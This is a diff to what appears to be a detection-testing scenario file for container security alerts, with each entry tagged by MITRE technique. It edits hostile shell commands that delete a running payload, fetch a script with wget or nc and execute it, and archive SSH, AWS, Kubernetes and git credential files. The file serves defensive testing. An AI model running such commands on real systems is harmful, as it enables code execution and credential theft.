@@ -47,11 +47,11 @@ export const ATTACKS_FILES: readonly Scenario[] = [
     cmd: "mkdir -p /tmp/w && cp /bin/busybox /tmp/w/sleep && cd /tmp/w && (./sleep 3 &) && sleep 0.5 && /applets/unlink sleep",
   },
   {
-    name: "a payload in /dev/shm deleted by the shell that started it (privileged pod)",
+    name: "a payload in /var/tmp deleted by the shell that started it (privileged pod)",
     technique: "T1070.004",
     pod: "priv",
     expect: "Running Executable Deleted",
-    cmd: "cp /bin/busybox /dev/shm/sleep && (/dev/shm/sleep 3 &) ; sleep 0.5; rm -f /dev/shm/sleep",
+    cmd: "mkdir -p /var/tmp && cp /bin/busybox /var/tmp/sleep && (/var/tmp/sleep 3 &) ; sleep 0.5; rm -f /var/tmp/sleep",
   },
   // ---------------------------------------------------------------- fetched then executed (T1105)
   {
@@ -76,14 +76,14 @@ export const ATTACKS_FILES: readonly Scenario[] = [
     pod: "web",
     expect: "Network-Fetched File Executed",
     setup: SERVE,
-    cmd: `/applets/wget -q -O - ${URL}/stage2.sh > /dev/shm/s2 && chmod 755 /dev/shm/s2 && /dev/shm/s2`,
+    cmd: `/applets/wget -q -O - ${URL}/stage2.sh > /tmp/s2 && chmod 755 /tmp/s2 && /tmp/s2`,
   },
   {
     name: "nc fetches a script from a listener, run through its shebang",
     technique: "T1105",
     pod: "web",
     expect: "Network-Fetched File Executed",
-    cmd: "printf '#!/bin/sh\\nid\\n' > /tmp/srv.sh && (/applets/nc -l -p 19007 < /tmp/srv.sh &) ; sleep 0.3; /applets/nc -w 1 127.0.0.1 19007 > /tmp/nc-stage && chmod 755 /tmp/nc-stage && /tmp/nc-stage",
+    cmd: "printf '#!/bin/sh\\nid\\n' > /tmp/srv.sh && (/applets/nc -l -p 19007 < /tmp/srv.sh &) ; sleep 0.3; /applets/nc -w 1 127.0.0.1 19007 > /tmp/nc-stage; chmod 755 /tmp/nc-stage && /tmp/nc-stage",
   },
   // ---------------------------------------------------------------- credential hunting
   {
@@ -100,7 +100,7 @@ export const ATTACKS_FILES: readonly Scenario[] = [
     pod: "web",
     expect: "Credential Files Hunted",
     setup: SECRETS,
-    cmd: "/applets/tar czf /tmp/loot.tgz /root/.ssh /root/.aws /root/.kube /root/.git-credentials /app/.env 2>/dev/null; rm -f /tmp/loot.tgz",
+    cmd: "/applets/tar cf /tmp/loot.tar /root/.ssh /root/.aws /root/.kube /root/.git-credentials /app/.env 2>/dev/null; rm -f /tmp/loot.tar",
   },
   {
     name: "grep -r through home and app directories for key markers",
